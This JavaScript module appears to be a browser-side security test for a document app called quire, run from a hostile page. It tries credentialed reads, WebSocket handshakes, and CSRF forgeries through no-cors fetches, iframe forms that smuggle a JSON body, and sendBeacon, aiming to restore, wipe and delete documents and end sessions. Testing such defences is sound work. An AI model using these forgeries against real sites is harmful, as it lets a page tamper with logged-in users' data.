/** What a page of somebody else tries, in a browser that has a login; run inside of the page. */

/** What a page can get with the login of the browser it is in. */
export async function reach({ target, doc }) {
  const socket = (offered) => new Promise((done) => {
    const opened = new WebSocket(`${target.replace('http', 'ws')}/ws/${doc}`, offered);
    const hello = { t: 'hello', v: 1, session: '0'.repeat(32), mode: 'edit' };
    opened.onopen = () => opened.send(JSON.stringify(hello));
    opened.onmessage = ({ data }) => done(JSON.parse(data).t);
    opened.onclose = ({ code }) => done(code);
  });
  const read = (path, options) => fetch(`${target}${path}`, { credentials: 'include', ...options })
    .then((response) => response.text(), () => 'refused');
  const csrf = document.cookie.split('__Host-quire-csrf=')[1]?.split(';')[0];
  const headers = { 'x-csrf-token': csrf ?? '' };
  return {
    text: await read(`/v1/docs/${doc}`),
    session: await read('/auth/session'),
    ticket: await read('/auth/ticket', { method: 'POST', headers }),
    sockets: [await socket(['quire.v1']), await socket(`csrf.${csrf ?? 'x'}`),
      await socket(['quire.v1', `csrf.${csrf ?? 'x'}`])],
    csrf: csrf !== undefined,
  };
}

/** What a page tries to change: by all that a page may send without being asked for leave. */
export async function forge({ target, doc }) {
  const form = (path, enctype, name, value) => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${Math.random()}`;
    const sent = document.createElement('form');
    const action = `${target}${path}`;
    Object.assign(sent, { method: 'post', action, enctype, target: frame.name });
    const field = document.createElement('input');
    Object.assign(field, { type: 'hidden', name, value });
    sent.append(field);
    document.body.append(frame, sent);
    frame.onload = () => done();
    sent.submit();
  });
  const send = (path, options) => fetch(`${target}${path}`, { credentials: 'include', ...options })
    .then(() => {}, () => {});
  const restore = `/v1/docs/${doc}/restore`;
  const body = JSON.stringify({ rev: 1, author: 'mallory' });
  const kinds = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
  for (const kind of kinds) {
    const simple = { method: 'POST', mode: 'no-cors', headers: { 'content-type': kind }, body };
    for (const path of [restore, '/auth/session', '/auth/ticket']) await send(path, simple);
    await form(restore, kind, '{"rev":1,"author":"mallory","x":"', '"}');
    await form('/auth/session', kind, 'a', 'b');
  }
  navigator.sendBeacon(`${target}${restore}`, body);
  navigator.sendBeacon(`${target}${restore}`, new Blob([body], { type: 'text/plain' }));
  const csrf = document.cookie.split('__Host-quire-csrf=')[1]?.split(';')[0];
  const headers = { 'content-type': 'application/json', 'x-csrf-token': csrf ?? '' };
  await send(restore, { method: 'POST', headers, body });
  await send(`/v1/docs/${doc}`, { method: 'PUT', headers, body: '{"text":"","author":"m"}' });
  await send(`/v1/docs/${doc}`, { method: 'DELETE', headers, body: '{"author":"mallory"}' });
  await send('/auth/session', { method: 'DELETE', headers });
}
